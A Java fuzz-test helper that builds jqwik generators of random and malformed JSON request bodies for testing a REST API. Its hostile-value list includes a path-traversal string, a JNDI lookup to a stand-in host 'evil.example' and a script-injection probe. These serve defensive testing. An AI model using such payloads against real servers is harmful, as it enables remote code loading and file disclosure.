package org.homecoming.testkit;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;

/**
 * Random and hostile request bodies for the REST fuzz tests (jqwik generators): JSON objects whose fields take valid
 * values, hostile strings (path traversal, JNDI lookups, bidi overrides, zero-width and NUL characters, huge text),
 * absurd numbers and dates, wrong types, unknown fields, and plain garbage that is no JSON at all.
 */
public final class HostileInput {

    private HostileInput() {
    }

    /** Strings an attacker or a broken client sends, as JSON literals (quoted, escaped). */
    public static Arbitrary<String> hostileValue() {
        Arbitrary<String> text = Arbitraries.oneOf(
                Arbitraries.strings().ofMaxLength(40),
                Arbitraries.strings().withChars("Петренко\u202E\u200B\u200D\u0000\uFEFF\u2028\"\\<>/{}$").ofMaxLength(20),
                Arbitraries.of("../../etc/passwd", "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", "",
                        " ", "a,b@example.invalid", "+999999999-12-31", "-1000000000-01-01T00:00:00Z", "1900-01-01",
                        "2026-12-05", "NaN", "Infinity", "SOLDIER", "UA", "RU", "uk", "x".repeat(5_000)));
        Arbitrary<String> quoted = text.map(HostileInput::quote);
        Arbitrary<String> number = Arbitraries.of("1e300", "-1e300", "2147483647", "-2147483648", "9.2e18", "0", "-1",
                "1.5", "99999999999999999999999", "NaN", "Infinity");
        Arbitrary<String> other = Arbitraries.of("null", "true", "false", "[]", "{}", "[null]", "[\"a\"]", "{\"a\":1}");
        return Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(5, quoted), net.jqwik.api.Tuple.of(2, number), net.jqwik.api.Tuple.of(1, other));
    }

    /**
     * A JSON object with the given fields, each given either one of its valid values or a hostile one, sometimes
     * left out, sometimes with an unknown field added; now and then a body that is not JSON at all.
     */
    public static Arbitrary<String> jsonObject(Map<String, Arbitrary<String>> validValues) {
        List<Arbitrary<Map.Entry<String, String>>> fields = new ArrayList<>();
        validValues.forEach((name, valid) -> fields.add(Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(6, valid), net.jqwik.api.Tuple.of(3, hostileValue()), net.jqwik.api.Tuple.of(1, Arbitraries.just((String) null)))
                .map(value -> value == null ? null : Map.entry(name, value))));
        Arbitrary<String> object = Combinators.combine(fields).as(entries -> {
            Map<String, String> present = new LinkedHashMap<>();
            entries.stream().filter(entry -> entry != null).forEach(entry -> present.put(entry.getKey(), entry.getValue()));
            return present;
        }).flatMap(present -> Arbitraries.integers().between(0, 9).map(extra -> {
            Map<String, String> body = new LinkedHashMap<>(present);
            if (extra == 0) {
                body.put("unexpected", "\"field\"");
            }
            return "{" + body.entrySet().stream().map(entry -> quote(entry.getKey()) + ":" + entry.getValue())
                    .collect(Collectors.joining(",")) + "}";
        }));
        Arbitrary<String> garbage = Arbitraries.oneOf(Arbitraries.strings().ofMaxLength(60),
                Arbitraries.of("", "{", "[", "null", "{\"a\":", "\u0000", "{}{}", "[1,2,3]"));
        return Arbitraries.frequencyOf(net.jqwik.api.Tuple.of(9, object), net.jqwik.api.Tuple.of(1, garbage));
    }

    /** A JSON array of up to {@code max} elements. */
    public static Arbitrary<String> jsonArray(Arbitrary<String> element, int max) {
        return element.list().ofMaxSize(max).map(list -> "[" + String.join(",", list) + "]");
    }

    /** A value as a JSON string literal. */
    public static String quote(String text) {
        StringBuilder out = new StringBuilder("\"");
        for (char c : text.toCharArray()) {
            switch (c) {
                case '"' -> out.append("\\\"");
                case '\\' -> out.append("\\\\");
                default -> {
                    if (c < 0x20 || Character.isSurrogate(c)) {
                        out.append(String.format("\\u%04x", (int) c));
                    } else {
                        out.append(c);
                    }
                }
            }
        }
        return out.append('"').toString();
    }
}
